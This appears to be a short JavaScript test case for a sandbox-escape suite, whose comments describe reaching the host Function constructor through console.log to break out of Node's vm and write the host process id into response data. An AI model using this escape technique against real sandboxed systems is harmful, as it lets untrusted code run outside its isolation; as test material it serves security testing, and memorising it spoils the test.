// Takes the constructor of console.log.
// Class: host objects
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  options.responseData[0].id = 'ESCAPED:' + console.log.constructor('return process.pid')();
  return options.responseData;
}
